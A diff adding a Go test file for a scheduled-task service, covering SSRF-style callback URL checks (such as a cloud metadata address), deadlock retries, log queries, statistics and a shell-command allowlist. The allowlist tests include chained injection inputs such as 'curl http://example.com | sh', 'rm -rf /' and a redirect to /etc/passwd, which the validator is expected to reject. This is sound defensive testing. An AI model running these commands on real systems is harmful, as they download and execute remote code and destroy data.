@@ -0,0 +1,1167 @@
+package service
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"math"
+	"net/http"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/glebarez/sqlite"
+	"github.com/go-sql-driver/mysql"
+	"gorm.io/gorm"
+	"gorm.io/gorm/logger"
+	"happx1/internal/database"
+	"happx1/internal/model"
+	"happx1/internal/scheduler"
+)
+
+// allowLoopback 测试中用于替换默认网段的禁止访问网段，使本机的测试服务器可以访问
+const allowLoopback = "203.0.113.0/24"
+
+// newTestDB 创建测试用的 SQLite 数据库并迁移数据表
+func newTestDB(t *testing.T) *gorm.DB {
+	t.Helper()
+	dsn, err := database.DSN(&database.MySQLConfig{Driver: database.DriverSQLite, Database: filepath.Join(t.TempDir(), "test.db")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	db, err := gorm.Open(sqlite.Open(dsn), &gorm.Config{Logger: logger.Discard})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := model.AutoMigrate(db); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if sqlDB, err := db.DB(); err == nil {
+			sqlDB.Close()
+		}
+	})
+	return db
+}
+
+// newTestService 创建使用已启动调度器的任务服务，schedulerConfig 为 nil 时使用 5 位 cron 表达式的默认配置
+func newTestService(t *testing.T, config *Config, schedulerConfig *scheduler.Config) (*TaskService, *gorm.DB) {
+	t.Helper()
+	if config == nil {
+		config = &Config{}
+	}
+	if schedulerConfig == nil {
+		schedulerConfig = &scheduler.Config{}
+	}
+	db := newTestDB(t)
+	sch := scheduler.NewScheduler(db, nil, schedulerConfig)
+	if err := sch.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(sch.Stop)
+	return NewTaskService(sch, db, config), db
+}
+
+// validTask 返回可以通过校验的 shell 任务，name 为任务名称
+func validTask(name string) *model.Task {
+	return &model.Task{Name: name, Spec: "*/5 * * * *", Command: "echo " + name, Timeout: 5}
+}
+
+// assertValidationError 断言错误包含 want
+func assertValidationError(t *testing.T, err error, want string) {
+	t.Helper()
+	if err == nil {
+		t.Fatalf("期望校验错误 %q，实际没有错误", want)
+	}
+	if !strings.Contains(err.Error(), want) {
+		t.Fatalf("错误 %q 不包含 %q", err, want)
+	}
+}
+
+func TestValidateCallbackURLs(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+
+	task := validTask("metadata-callback")
+	task.CallbackURL = "http://169.254.169.254/latest/meta-data/"
+	assertValidationError(t, svc.CreateTask(task, "test"), "回调地址")
+
+	task = validTask("metadata-health")
+	task.CallbackURL = "https://93.184.216.34/hook"
+	task.CallbackHealthURL = "http://127.0.0.1:9000/health"
+	assertValidationError(t, svc.CreateTask(task, "test"), "回调健康检查地址")
+
+	task = validTask("public-callback")
+	task.CallbackURL = "https://93.184.216.34/hook"
+	task.CallbackHealthURL = "https://93.184.216.34/health"
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatalf("公网回调地址应被接受: %v", err)
+	}
+
+	// 更新时同样校验
+	task.CallbackURL = "http://10.0.0.1/hook"
+	assertValidationError(t, svc.UpdateTask(task, "test"), "回调地址")
+}
+
+func TestCreateTaskRetriesDeadlock(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+
+	// 第一次写入审计记录时返回死锁，任务已在同一事务中写入，回滚后整个事务重试
+	deadlocks := 0
+	err := db.Callback().Create().Before("gorm:create").Register("test:deadlock", func(tx *gorm.DB) {
+		if _, ok := tx.Statement.Model.(*model.TaskAudit); ok && deadlocks == 0 {
+			deadlocks++
+			tx.AddError(&mysql.MySQLError{Number: 1213, Message: "Deadlock found when trying to get lock"})
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	task := validTask("deadlock-retry")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatalf("死锁重试后应创建成功: %v", err)
+	}
+	if deadlocks != 1 {
+		t.Fatalf("注入了 %d 次死锁，期望1次", deadlocks)
+	}
+	var tasks, audits int64
+	db.Model(&model.Task{}).Where("name = ?", task.Name).Count(&tasks)
+	db.Model(&model.TaskAudit{}).Where("task_id = ?", task.ID).Count(&audits)
+	if tasks != 1 || audits != 1 {
+		t.Fatalf("任务 %d 条、审计记录 %d 条，期望各1条", tasks, audits)
+	}
+}
+
+func TestNextRunTimeDeadlockRetriesTransaction(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+
+	// 第一次更新下次执行时间时返回死锁：死锁回滚整个事务，需从创建任务开始重试，而不是只重试这次更新
+	var creates, deadlocks int
+	err := db.Callback().Create().Before("gorm:create").Register("test:count_create", func(tx *gorm.DB) {
+		if _, ok := tx.Statement.Model.(*model.Task); ok {
+			creates++
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = db.Callback().Update().Before("gorm:update").Register("test:deadlock_next_run", func(tx *gorm.DB) {
+		if dest, ok := tx.Statement.Dest.(map[string]interface{}); ok && deadlocks == 0 {
+			if _, ok := dest["next_run_time"]; ok {
+				deadlocks++
+				tx.AddError(&mysql.MySQLError{Number: 1213, Message: "Deadlock found when trying to get lock"})
+			}
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	task := validTask("next-run-deadlock")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatalf("死锁重试后应创建成功: %v", err)
+	}
+	if deadlocks != 1 || creates != 2 {
+		t.Fatalf("注入 %d 次死锁后创建了 %d 次任务，期望重试整个事务", deadlocks, creates)
+	}
+	saved, err := svc.GetTask(task.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if saved.NextRunTime.IsZero() {
+		t.Fatal("重试后未保存下次执行时间")
+	}
+	if n := svc.scheduler.Status().ScheduledTasks; n != 1 {
+		t.Fatalf("注册了 %d 个触发器，期望1个", n)
+	}
+}
+
+func TestSchedulerChangedOnlyAfterCommit(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	task := validTask("after-commit")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+
+	// 写入审计记录失败时事务回滚，调度器中的触发器保持不变
+	err := db.Callback().Create().Before("gorm:create").Register("test:fail_audit", func(tx *gorm.DB) {
+		if _, ok := tx.Statement.Model.(*model.TaskAudit); ok {
+			tx.AddError(errors.New("injected audit failure"))
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// scheduled 返回已注册触发器的任务数
+	scheduled := func() int { return svc.scheduler.Status().ScheduledTasks }
+
+	if err := svc.CreateTask(validTask("after-commit-rolled-back"), "test"); err == nil {
+		t.Fatal("审计记录写入失败时创建任务应返回错误")
+	}
+	if n := scheduled(); n != 1 {
+		t.Fatalf("创建回滚后注册了 %d 个触发器，期望1个", n)
+	}
+
+	current, err := svc.GetTask(task.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	current.Status = 0
+	if err := svc.UpdateTask(current, "test"); err == nil {
+		t.Fatal("审计记录写入失败时更新任务应返回错误")
+	}
+	for _, action := range []string{BatchActionDisable, BatchActionDelete} {
+		results, err := svc.BatchOperate([]uint{task.ID}, action, "test")
+		if err != nil || results[0].Success {
+			t.Fatalf("审计记录写入失败时批量%s应失败: %v %+v", action, err, results)
+		}
+	}
+	if n := scheduled(); n != 1 {
+		t.Fatalf("回滚的禁用和删除移除了触发器，剩余 %d 个", n)
+	}
+
+	db.Callback().Create().Remove("test:fail_audit")
+	if _, err := svc.BatchOperate([]uint{task.ID}, BatchActionDisable, "test"); err != nil {
+		t.Fatal(err)
+	}
+	if n := scheduled(); n != 0 {
+		t.Fatalf("禁用后仍有 %d 个触发器", n)
+	}
+}
+
+func TestListTasksByTag(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+
+	create := func(name string, tags ...string) *model.Task {
+		t.Helper()
+		task := validTask(name)
+		task.Tags = tags
+		if err := svc.CreateTask(task, "test"); err != nil {
+			t.Fatal(err)
+		}
+		return task
+	}
+	create("monthly-report", "reports", "billing")
+	create("daily-report", "reports")
+	create("report-draft", "report")
+	create("cleanup", "nightly_job")
+	create("cleanup-other", "nightlyXjob")
+	deleted := create("old-report", "reports")
+	if err := svc.DeleteTask(deleted.ID, "test"); err != nil {
+		t.Fatal(err)
+	}
+
+	cases := []struct {
+		tags           []string
+		includeDeleted bool
+		want           []string
+	}{
+		{[]string{"reports"}, false, []string{"daily-report", "monthly-report"}},
+		{[]string{"other"}, false, nil},
+		{[]string{"reports", "billing"}, false, []string{"monthly-report"}},
+		{[]string{"report"}, false, []string{"report-draft"}},
+		{[]string{"nightly_job"}, false, []string{"cleanup"}},
+		{[]string{"reports"}, true, []string{"daily-report", "monthly-report", "old-report"}},
+	}
+	for _, c := range cases {
+		tasks, err := svc.ListTasksByTag(c.includeDeleted, c.tags...)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var names []string
+		for _, task := range tasks {
+			names = append(names, task.Name)
+		}
+		sort.Strings(names)
+		if strings.Join(names, ",") != strings.Join(c.want, ",") {
+			t.Errorf("标签 %v（包含已删除 %v）返回 %v，期望 %v", c.tags, c.includeDeleted, names, c.want)
+		}
+	}
+}
+
+func TestNormalizeTags(t *testing.T) {
+	task := &model.Task{Tags: model.Tags{" billing ", "billing", "报表"}}
+	if errs := normalizeTags(task); len(errs) != 0 {
+		t.Fatalf("有效标签校验失败: %v", errs)
+	}
+	if strings.Join(task.Tags, ",") != "billing,报表" {
+		t.Fatalf("标签 %v，期望去除空白并去重", task.Tags)
+	}
+
+	for _, tags := range []model.Tags{
+		{""},
+		{"has space"},
+		{`quote"`},
+		{strings.Repeat("x", 33)},
+		{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k"},
+	} {
+		if errs := normalizeTags(&model.Task{Tags: tags}); len(errs) == 0 {
+			t.Errorf("标签 %q 应被拒绝", tags)
+		}
+	}
+}
+
+// seedLogs 为任务保存执行日志，未设置的开始时间按保存顺序递增，未设置的执行ID按序号生成
+func seedLogs(t *testing.T, db *gorm.DB, taskID uint, logs ...model.TaskLog) {
+	t.Helper()
+	base := time.Now().Add(-time.Hour)
+	for i := range logs {
+		logs[i].TaskID = taskID
+		if logs[i].StartTime.IsZero() {
+			logs[i].StartTime = base.Add(time.Duration(i) * time.Minute)
+		}
+		if logs[i].RunID == "" {
+			logs[i].RunID = fmt.Sprintf("run-%d", i)
+		}
+		if logs[i].Attempt == 0 {
+			logs[i].Attempt = 1
+		}
+	}
+	if err := db.Create(&logs).Error; err != nil {
+		t.Fatal(err)
+	}
+}
+
+// logDurations 返回日志页中每次执行的时长
+func logDurations(page *LogPage) []int {
+	durations := make([]int, 0, len(page.Items))
+	for _, item := range page.Items {
+		durations = append(durations, item.Duration)
+	}
+	sort.Ints(durations)
+	return durations
+}
+
+func TestGetTaskLogsDurationFilter(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	task := validTask("slow-runs")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+	seedLogs(t, db, task.ID,
+		model.TaskLog{Duration: 1, Status: 1},
+		model.TaskLog{Duration: 5, Status: 1},
+		model.TaskLog{Duration: 10, Status: 0},
+		model.TaskLog{Duration: 30, Status: 1},
+		model.TaskLog{Duration: 120, Status: 1},
+	)
+
+	intPtr := func(v int) *int { return &v }
+	cases := []struct {
+		name     string
+		min, max *int
+		want     []int
+	}{
+		{"不过滤", nil, nil, []int{1, 5, 10, 30, 120}},
+		{"最短时长包含边界", intPtr(10), nil, []int{10, 30, 120}},
+		{"最长时长包含边界", nil, intPtr(10), []int{1, 5, 10}},
+		{"时长区间", intPtr(5), intPtr(30), []int{5, 10, 30}},
+		{"区间内没有执行", intPtr(31), intPtr(119), []int{}},
+	}
+	for _, c := range cases {
+		page, err := svc.GetTaskLogs(task.ID, LogQuery{MinDuration: c.min, MaxDuration: c.max})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := logDurations(page); fmt.Sprint(got) != fmt.Sprint(c.want) || page.Total != int64(len(c.want)) {
+			t.Errorf("%s: 返回时长 %v（共 %d 条），期望 %v", c.name, got, page.Total, c.want)
+		}
+	}
+
+	// 与其他过滤条件同时生效
+	page, err := svc.GetTaskLogs(task.ID, LogQuery{MinDuration: intPtr(5), Status: intPtr(1)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := logDurations(page); fmt.Sprint(got) != "[5 30 120]" {
+		t.Errorf("时长和状态同时过滤返回 %v，期望 [5 30 120]", got)
+	}
+}
+
+func TestValidateDependency(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	a := validTask("dep-a")
+	if err := svc.CreateTask(a, "test"); err != nil {
+		t.Fatal(err)
+	}
+	b := validTask("dep-b")
+	b.DependsOn = &a.ID
+	if err := svc.CreateTask(b, "test"); err != nil {
+		t.Fatal(err)
+	}
+
+	missing := uint(9999)
+	orphan := validTask("dep-missing")
+	orphan.DependsOn = &missing
+	assertValidationError(t, svc.CreateTask(orphan, "test"), "依赖的任务不存在")
+
+	negative := validTask("dep-negative")
+	negative.DependsOn, negative.DependencyWindow = &a.ID, -1
+	assertValidationError(t, svc.CreateTask(negative, "test"), "依赖有效期")
+
+	// a 依赖 b 时形成 a -> b -> a 的循环
+	current, err := svc.GetTask(a.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	current.DependsOn = &b.ID
+	assertValidationError(t, svc.UpdateTask(current, "test"), "循环依赖")
+
+	current.DependsOn = &a.ID
+	assertValidationError(t, svc.UpdateTask(current, "test"), "循环依赖")
+}
+
+func TestValidateRetryDistinguishesUnsetFromZero(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	saved := func(name string) int {
+		t.Helper()
+		var task model.Task
+		if err := db.Where("name = ?", name).First(&task).Error; err != nil {
+			t.Fatal(err)
+		}
+		return task.GetRetryTimes()
+	}
+
+	unset := validTask("retry-unset")
+	if err := svc.CreateTask(unset, "test"); err != nil {
+		t.Fatal(err)
+	}
+	if n := saved(unset.Name); n != model.DefaultRetryTimes {
+		t.Errorf("未设置时保存的重试次数为 %d，期望默认值 %d", n, model.DefaultRetryTimes)
+	}
+
+	zero := validTask("retry-zero")
+	zero.RetryTimes = new(int)
+	if err := svc.CreateTask(zero, "test"); err != nil {
+		t.Fatal(err)
+	}
+	if n := saved(zero.Name); n != 0 {
+		t.Errorf("显式设置为0时保存的重试次数为 %d", n)
+	}
+
+	negative := validTask("retry-negative")
+	negative.RetryTimes = new(int)
+	*negative.RetryTimes = -1
+	assertValidationError(t, svc.CreateTask(negative, "test"), "重试次数不能为负数")
+}
+
+func TestBatchOperatePartialFailure(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	var ids []uint
+	for _, name := range []string{"batch-a", "batch-b", "batch-c"} {
+		task := validTask(name)
+		if err := svc.CreateTask(task, "test"); err != nil {
+			t.Fatal(err)
+		}
+		ids = append(ids, task.ID)
+	}
+	scheduled := func() int { return svc.SchedulerStatus().ScheduledTasks }
+	if n := scheduled(); n != 3 {
+		t.Fatalf("已注册 %d 个触发器，期望3个", n)
+	}
+
+	// 不存在的任务失败，其余任务仍被禁用并移除触发器
+	results, err := svc.BatchOperate([]uint{ids[0], 9999, ids[1]}, BatchActionDisable, "test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(results) != 3 || !results[0].Success || results[1].Success || !results[2].Success {
+		t.Fatalf("批量禁用结果 %+v，期望只有 9999 失败", results)
+	}
+	if results[1].ID != 9999 || results[1].Error != "任务不存在" {
+		t.Fatalf("失败结果 %+v，期望说明任务不存在", results[1])
+	}
+	if n := scheduled(); n != 1 {
+		t.Fatalf("禁用后已注册 %d 个触发器，期望1个", n)
+	}
+
+	// 已过执行时间的一次性任务不能启用，其余任务重新注册触发器
+	expired := &model.Task{Name: "batch-expired", Type: model.TaskTypeOnce, Spec: time.Now().Add(-time.Hour).Format(time.RFC3339), Command: "echo expired", Timeout: 5}
+	if err := db.Create(expired).Error; err != nil {
+		t.Fatal(err)
+	}
+	db.Model(expired).Update("status", 0)
+	results, err = svc.BatchOperate([]uint{ids[0], expired.ID, ids[1]}, BatchActionEnable, "test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !results[0].Success || results[1].Success || !results[2].Success {
+		t.Fatalf("批量启用结果 %+v，期望只有已过期的一次性任务失败", results)
+	}
+	if n := scheduled(); n != 3 {
+		t.Fatalf("启用后已注册 %d 个触发器，期望3个", n)
+	}
+	var current model.Task
+	db.First(&current, expired.ID)
+	if current.Status != 0 {
+		t.Fatal("启用失败的任务状态被修改")
+	}
+
+	results, err = svc.BatchOperate(ids, BatchActionDelete, "test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range results {
+		if !r.Success {
+			t.Fatalf("批量删除结果 %+v", results)
+		}
+	}
+	if n := scheduled(); n != 0 {
+		t.Fatalf("删除后已注册 %d 个触发器，期望0个", n)
+	}
+
+	if _, err := svc.BatchOperate(ids, "archive", "test"); err == nil {
+		t.Fatal("不支持的批量操作应报错")
+	}
+}
+
+func TestGetTaskLogsFailedWithinWindow(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	task := validTask("paged-logs")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+	day := time.Date(2024, 3, 10, 0, 0, 0, 0, time.UTC)
+	var logs []model.TaskLog
+	for i := 0; i < 30; i++ {
+		// 3月9日至3月11日每天10次执行，每3次中有1次失败
+		status := 1
+		if i%3 == 0 {
+			status = 0
+		}
+		logs = append(logs, model.TaskLog{Status: status, StartTime: day.Add(time.Duration(i-10) * 144 * time.Minute), Duration: i})
+	}
+	seedLogs(t, db, task.ID, logs...)
+
+	failed := 0
+	from, to := day, day.AddDate(0, 0, 1)
+	query := LogQuery{Status: &failed, From: &from, To: &to, PageSize: 2}
+	page, err := svc.GetTaskLogs(task.ID, query)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// 3月10日的执行为 i=10..19，其中失败的是 i=12、15、18
+	if page.Total != 3 || page.Page != 1 || page.PageSize != 2 || len(page.Items) != 2 {
+		t.Fatalf("第1页 total=%d page=%d page_size=%d items=%d，期望共3条、每页2条", page.Total, page.Page, page.PageSize, len(page.Items))
+	}
+	if page.Items[0].Duration != 18 || page.Items[1].Duration != 15 {
+		t.Fatalf("第1页为 %v，期望按开始时间倒序的 i=18、15", logDurations(page))
+	}
+	query.Page = 2
+	if page, err = svc.GetTaskLogs(task.ID, query); err != nil {
+		t.Fatal(err)
+	}
+	if len(page.Items) != 1 || page.Items[0].Duration != 12 {
+		t.Fatalf("第2页为 %v，期望只有 i=12", logDurations(page))
+	}
+	for _, item := range page.Items {
+		if item.Status != 0 || item.StartTime.Before(from) || !item.StartTime.Before(to) {
+			t.Fatalf("返回了过滤范围之外的日志 %+v", item.TaskLog)
+		}
+	}
+
+	// 每页条数超过上限时按上限返回
+	page, err = svc.GetTaskLogs(task.ID, LogQuery{PageSize: maxLogPageSize + 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if page.PageSize != maxLogPageSize || page.Total != 30 {
+		t.Fatalf("page_size=%d total=%d，期望按上限 %d 返回全部30条", page.PageSize, page.Total, maxLogPageSize)
+	}
+}
+
+func TestMaxScheduleAheadDays(t *testing.T) {
+	svc, _ := newTestService(t, &Config{MaxScheduleAheadDays: 30}, nil)
+	once := func(name string, execTime time.Time) *model.Task {
+		return &model.Task{Name: name, Type: model.TaskTypeOnce, Spec: execTime.Format(time.RFC3339), Command: "echo " + name, Timeout: 5}
+	}
+
+	if err := svc.CreateTask(once("once-near", time.Now().Add(24*time.Hour)), "test"); err != nil {
+		t.Fatalf("范围内的执行时间应被接受: %v", err)
+	}
+	assertValidationError(t, svc.CreateTask(once("once-far", time.Now().AddDate(0, 0, 31)), "test"), "超出允许范围")
+	assertValidationError(t, svc.CreateTask(once("once-past", time.Now().Add(-time.Minute)), "test"), "必须晚于当前时间")
+
+	// 未限制时只校验执行时间晚于当前时间
+	unlimited, _ := newTestService(t, nil, nil)
+	if err := unlimited.CreateTask(once("once-unlimited", time.Now().AddDate(1, 0, 0)), "test"); err != nil {
+		t.Fatalf("未限制时一年后的执行时间应被接受: %v", err)
+	}
+}
+
+func TestCreateAndUpdateShareValidation(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	existing := validTask("shared-validation")
+	if err := svc.CreateTask(existing, "test"); err != nil {
+		t.Fatal(err)
+	}
+
+	cases := []struct {
+		name   string
+		modify func(task *model.Task)
+	}{
+		{"无效的 cron 表达式", func(task *model.Task) { task.Spec = "not a spec" }},
+		{"不支持的执行类型", func(task *model.Task) { task.ExecType = "ftp" }},
+		{"负数超时时间", func(task *model.Task) { task.Timeout = -1 }},
+		{"无效的回调地址", func(task *model.Task) { task.CallbackURL = "ftp://example.com" }},
+		{"http 任务缺少地址", func(task *model.Task) { task.ExecType, task.Command = model.ExecTypeHTTP, "" }},
+	}
+	for _, c := range cases {
+		created := validTask("shared-" + c.name)
+		c.modify(created)
+		createErr := svc.CreateTask(created, "test")
+
+		updated, err := svc.GetTask(existing.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.modify(updated)
+		updateErr := svc.UpdateTask(updated, "test")
+
+		if createErr == nil || updateErr == nil {
+			t.Errorf("%s: 创建错误 %v，更新错误 %v，期望都被拒绝", c.name, createErr, updateErr)
+			continue
+		}
+		if createErr.Error() != updateErr.Error() {
+			t.Errorf("%s: 创建错误 %q 与更新错误 %q 不一致", c.name, createErr, updateErr)
+		}
+	}
+}
+
+func TestValidateClientCertificate(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	task := validTask("mtls")
+	task.ExecType, task.Command = model.ExecTypeHTTP, "https://93.184.216.34/"
+	task.ClientCert, task.ClientKey = "-----BEGIN CERTIFICATE-----\nbad\n-----END CERTIFICATE-----", "bad"
+	assertValidationError(t, svc.CreateTask(task, "test"), "客户端证书和私钥不匹配或格式无效")
+
+	task.ClientCert = ""
+	assertValidationError(t, svc.CreateTask(task, "test"), "客户端证书和私钥不匹配或格式无效")
+}
+
+func TestGetTaskLogsGroupsAttempts(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	counter := filepath.Join(t.TempDir(), "attempts")
+	task := validTask("flaky")
+	// 前两次尝试失败，第三次成功，每次输出尝试序号
+	task.Command = fmt.Sprintf(`n=$(($(cat %[1]s 2>/dev/null || echo 0) + 1)); echo $n > %[1]s; echo "attempt $n"; [ $n -ge 3 ]`, counter)
+	retries := 2
+	task.RetryTimes = &retries
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+	if err := db.Model(task).Update("retry_delay", 0).Error; err != nil {
+		t.Fatal(err)
+	}
+	current, err := svc.GetTask(task.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.RunTaskSync(context.Background(), current, nil, false); err != nil {
+		t.Fatal(err)
+	}
+
+	page, err := svc.GetTaskLogs(task.ID, LogQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if page.Total != 1 || len(page.Items) != 1 {
+		t.Fatalf("返回 %d 次执行，期望3次尝试归为1次执行", page.Total)
+	}
+	run := page.Items[0]
+	if run.Status != 1 || run.Attempt != 3 || len(run.Attempts) != 3 {
+		t.Fatalf("执行结果 status=%d attempt=%d，共 %d 次尝试，期望第3次尝试成功", run.Status, run.Attempt, len(run.Attempts))
+	}
+	for i, attempt := range run.Attempts {
+		wantStatus := 0
+		if i == 2 {
+			wantStatus = 1
+		}
+		if attempt.Attempt != i+1 || attempt.RunID != run.RunID || attempt.Status != wantStatus || attempt.Output != fmt.Sprintf("attempt %d\n", i+1) {
+			t.Errorf("第%d次尝试 attempt=%d run_id=%s status=%d output=%q", i+1, attempt.Attempt, attempt.RunID, attempt.Status, attempt.Output)
+		}
+	}
+}
+
+func TestGetTaskStatsPercentiles(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	task := validTask("latency")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+	// 执行时长为 1~100 秒各一次，重试前的尝试和演练执行不计入
+	logs := make([]model.TaskLog, 0, 102)
+	for d := 100; d >= 1; d-- {
+		logs = append(logs, model.TaskLog{Duration: d, Status: 1})
+	}
+	logs = append(logs, model.TaskLog{Duration: 1000, Retried: true}, model.TaskLog{Duration: 1000, Status: 1, DryRun: true})
+	seedLogs(t, db, task.ID, logs...)
+	if err := db.Create(&model.TaskStats{TaskID: task.ID, TotalRuns: 100, SuccessCount: 90, FailureCount: 10, TotalDuration: 5050}).Error; err != nil {
+		t.Fatal(err)
+	}
+
+	stats, err := svc.GetTaskStats(task.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if stats.SuccessRate != 0.9 || stats.AvgDuration != 50.5 {
+		t.Errorf("成功率 %v，平均时长 %v，期望 0.9 和 50.5", stats.SuccessRate, stats.AvgDuration)
+	}
+	if stats.P95Duration != 95 || stats.P99Duration != 99 {
+		t.Errorf("P95=%v P99=%v，期望 95 和 99", stats.P95Duration, stats.P99Duration)
+	}
+}
+
+func TestPercentile(t *testing.T) {
+	cases := []struct {
+		sorted []int
+		p      float64
+		want   float64
+	}{
+		{nil, 95, 0},
+		{[]int{7}, 99, 7},
+		{[]int{1, 2, 3, 4}, 50, 2},
+		{[]int{1, 2, 3, 4}, 95, 4},
+		{[]int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}, 90, 9},
+		{[]int{1, 2, 3}, 0, 1},
+	}
+	for _, c := range cases {
+		if got := percentile(c.sorted, c.p); got != c.want {
+			t.Errorf("percentile(%v, %v) = %v，期望 %v", c.sorted, c.p, got, c.want)
+		}
+	}
+}
+
+func TestGetTaskStatsWindow(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+	task := validTask("windowed")
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+	now := time.Now()
+	// 最近一天内成功2次、失败1次，更早的执行分布在两周内
+	seedLogs(t, db, task.ID,
+		model.TaskLog{StartTime: now.Add(-time.Hour), Duration: 2, Status: 1},
+		model.TaskLog{StartTime: now.Add(-2 * time.Hour), Duration: 4, Status: 1},
+		model.TaskLog{StartTime: now.Add(-3 * time.Hour), Duration: 6, Status: 0},
+		model.TaskLog{StartTime: now.Add(-3 * 24 * time.Hour), Duration: 10, Status: 0},
+		model.TaskLog{StartTime: now.Add(-6 * 24 * time.Hour), Duration: 10, Status: 0},
+		model.TaskLog{StartTime: now.Add(-13 * 24 * time.Hour), Duration: 20, Status: 1},
+	)
+
+	cases := []struct {
+		window  string
+		runs    int64
+		success int64
+		avg     float64
+	}{
+		{"24h", 3, 2, 4},
+		{"7d", 5, 2, 6.4},
+		{"30d", 6, 3, 52.0 / 6},
+	}
+	for _, c := range cases {
+		stats, err := svc.GetTaskStatsWindow(task.ID, c.window)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if stats.TotalRuns != c.runs || stats.SuccessCount != c.success || stats.FailureCount != c.runs-c.success {
+			t.Errorf("%s: 执行 %d 次，成功 %d 次，失败 %d 次，期望 %d/%d", c.window, stats.TotalRuns, stats.SuccessCount, stats.FailureCount, c.runs, c.success)
+		}
+		if math.Abs(stats.AvgDuration-c.avg) > 1e-9 || math.Abs(stats.SuccessRate-float64(c.success)/float64(c.runs)) > 1e-9 {
+			t.Errorf("%s: 平均时长 %v，成功率 %v", c.window, stats.AvgDuration, stats.SuccessRate)
+		}
+	}
+
+	if _, err := svc.GetTaskStatsWindow(task.ID, "1y"); err == nil {
+		t.Error("不支持的统计窗口应报错")
+	}
+}
+
+func TestShellAllowlist(t *testing.T) {
+	svc, _ := newTestService(t, nil, &scheduler.Config{ShellAllowlist: []string{`echo .*`, `/opt/jobs/.*`}})
+	allowed := validTask("allowed")
+	allowed.RetryTimes = new(int)
+	if err := svc.CreateTask(allowed, "test"); err != nil {
+		t.Fatalf("允许列表中的命令应被接受: %v", err)
+	}
+	rejected := validTask("rejected")
+	rejected.Command = "rm -rf /tmp/data"
+	assertValidationError(t, svc.CreateTask(rejected, "test"), "命令不在允许列表中")
+
+	// 规则需匹配整条命令，匹配的命令后不能再拼接其他命令
+	suffixed := validTask("suffixed")
+	suffixed.Command = "/tmp/opt/jobs/run.sh"
+	assertValidationError(t, svc.CreateTask(suffixed, "test"), "命令不在允许列表中")
+	for _, command := range []string{
+		"/opt/jobs/run.sh; curl http://example.com | sh",
+		"/opt/jobs/run.sh && rm -rf /",
+		"/opt/jobs/run.sh $(rm -rf /)",
+		"/opt/jobs/run.sh `rm -rf /`",
+		"/opt/jobs/run.sh > /etc/passwd",
+		"/opt/jobs/run.sh\nrm -rf /",
+	} {
+		chained := validTask("chained")
+		chained.Command = command
+		assertValidationError(t, svc.CreateTask(chained, "test"), "shell 元字符")
+	}
+
+	// 执行时再次校验，允许列表收紧后已保存的任务不再执行
+	strict, _ := newTestService(t, nil, &scheduler.Config{ShellAllowlist: []string{`/opt/jobs/.*`}})
+	taskLog, err := strict.RunTaskSync(context.Background(), allowed, nil, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if taskLog.Status != 0 || !strings.Contains(taskLog.Error, "命令不在允许列表中") {
+		t.Fatalf("不在允许列表中的命令执行结果 status=%d error=%q", taskLog.Status, taskLog.Error)
+	}
+}
+
+func TestDisableShellTasks(t *testing.T) {
+	svc, _ := newTestService(t, nil, &scheduler.Config{DisableShellTasks: true})
+	assertValidationError(t, svc.CreateTask(validTask("shell"), "test"), "已禁用 shell 类型任务")
+
+	// 其他执行类型不受影响
+	task := validTask("http")
+	task.ExecType, task.Command = model.ExecTypeHTTP, "https://93.184.216.34/"
+	if err := svc.CreateTask(task, "test"); err != nil {
